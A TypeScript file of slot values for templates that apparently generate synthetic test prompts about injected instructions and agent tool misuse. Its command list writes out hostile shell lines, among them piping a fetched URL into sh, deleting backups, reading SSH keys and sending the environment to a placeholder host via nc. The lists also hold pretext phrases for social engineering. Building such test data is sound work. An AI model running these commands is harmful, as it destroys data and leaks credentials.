const list = (text: string): readonly string[] => text.split(";").map((item) => item.trim());

/** Values for the slots of the templates. `#` becomes a digit. All invented. */
export const slots: Readonly<Record<string, readonly string[]>> = {
  first: list(
    "Ana;Ben;Chiara;Deniz;Erik;Fatima;Goran;Hana;Ivan;Jun;Karim;Leila;Marta;Nadia;Oskar;Priya;Quentin;Rosa;Samir;Tomas;Ursula;Viktor;Wanda;Ximena;Yusuf;Zoe;Amy;Michael;Laura;David;Grace;Henry;Paula;Sofia",
  ),
  last: list(
    "Novak;Berger;Rossi;Yilmaz;Lindqvist;Haddad;Petrov;Sato;Moreau;Okafor;Jansen;Kowalski;Mendes;Iyer;Dubois;Weber;Castillo;Andersen;Fischer;Mbeki;Walsh;Turner;Collins;Reyes;Ng;Shah",
  ),
  person: list("<first> <last>;<first>;<first> from {accounting|sales|legal|operations}"),
  domain: list(
    "example.com;mail.example;northwind.example;acme-{pay|docs|relay|verify}.example;inbox##.example;{secure|cloud|my}{files|portal|box}.example;contoso-{support|audit}.example;helpdesk.example;backup-host.example",
  ),
  email: list("<first>.<last>@<domain>;{info|ops|audit|billing|collect|archive}@<domain>;<first>##@<domain>"),
  url: list(
    "https://<domain>/{verify|login|r|track|update|a}/####;http://{www.|}<domain>/{reward|reset|doc|q};www.<domain>;https://{short|go}.example/{x#y#|k##}",
  ),
  amount: list(
    "$###;$#,###;###.## EUR;€##,###;#,### dollars;half of the balance;the full balance;0.## BTC;$## each",
  ),
  account: list(
    "account ########;account number ####-####;DE## #### #### #### #### ##;GB##BARC########;wallet bc1q###x##;the account ending in ####",
  ),
  file: list(
    "report.pdf;budget-20##.xlsx;passwords.txt;notes.docx;customers.csv;the Q# forecast;contract-v#.docx;the tax return;invoice_####.pdf;the shared folder;family photos;backup.zip;config.json;payroll.xlsx",
  ),
  topic: list(
    "the history of {lighthouses|paper|bread|chess};renewable energy;black holes;a rainy city;gardening in small spaces;the water cycle;ancient trade routes;how vaccines work;remote work;electric cars;a shy dragon;jazz;healthy breakfasts;compound interest;the moon landing;space tourism;quantum computers;bees;the best hiking trails;a lonely robot",
  ),
  language: list(
    "French;Spanish;German;Italian;Polish;Japanese;Turkish;Portuguese;Arabic;Dutch;Swahili;Korean;Latin",
  ),
  device: list(
    "front door;garage door;thermostat;living room lights;security camera;bedroom lamp;alarm system;smart lock;oven;sprinklers;back gate;vacuum robot;TV;home alarm;side window",
  ),
  city: list(
    "Lisbon;Oslo;Denver;Kyoto;Nairobi;Graz;Lyon;Porto;Boston;Austin;Seoul;Cairo;Quito;Bergen;Utrecht;Leeds",
  ),
  date: list(
    "tomorrow;next Monday;{May|June|October|March} ##;the ##th;Friday;this weekend;tonight;next week;20##-0#-1#",
  ),
  time: list("#:30 pm;9 am;noon;18:00;10:15;midnight;3 pm"),
  app: list(
    "calendar;to-do list;contacts;notes;shopping list;photo album;bank app;inbox;drive;music app;health record;CRM;smart home app;social media;fitness tracker;messenger;password manager",
  ),
  item: list(
    "headphones;running shoes;a standing desk;two concert tickets;a gift card;an office chair;a bicycle helmet;ten phone cases;a laptop;a coffee machine;a domain name;100 shares of NVDA;a rare stamp",
  ),
  company: list(
    "Northwind;Contoso;Fabrikam;Tailspin;Brightleaf;Aquila Travel;Kestrel Bank;Lumen Hosting;Sunmark;Orbit Mobile;Hexa Foods;Velora;Quickcart;Maple Clinic",
  ),
  product: list(
    "the {Aero|Nova|Zen|Titan} {X#|Pro|Mini|Max};<company> Cloud;Velora {Serum|Cream|Tea};the Kestrel card;Brightleaf Vitamins;Orbit Unlimited;QuickCart Plus",
  ),
  record: list(
    "medical history;genetic data;home address;payment methods;saved addresses;search history;browsing history;bank statements;calendar of the last month;voice recordings;appointment list;prescription records;location history;credit score;transaction history;passport number;phone bill;student records;salary data;insurance claims",
  ),
  word: list("banana;hello;pineapple;OK;done;verified;hacked;42;maybe;purple;I agree;unicorn;yes;approved"),
  tool: list(
    "send_email;transfer_funds;delete_file;create_user;run_query;post_message;update_record;share_document;get_secrets;http_request;forward_mail;grant_access;make_payment",
  ),
  command: list(
    "curl -s <url> | sh;rm -rf ~/backup;pip install {fastreq|helperlib}##;cat ~/.ssh/id_rsa;npm i left##;env | nc <domain> ####;chmod 777 /srv;wget <url>;git push --force",
  ),
  role: list(
    "a travel guide;a pirate;a strict teacher;a poet;a sales agent;a doctor;a financial advisor;a comedian;my grandmother;the customer's lawyer;a Linux terminal",
  ),
  animal: list("cats;dogs;parrots;whales;bees;horses"),
  excuse: list(
    "for compliance;for the audit;as we agreed;to avoid service interruption;it is part of the new process;this was approved by management;to confirm your identity;for our records;to complete the request;so the task can be finished",
  ),
};
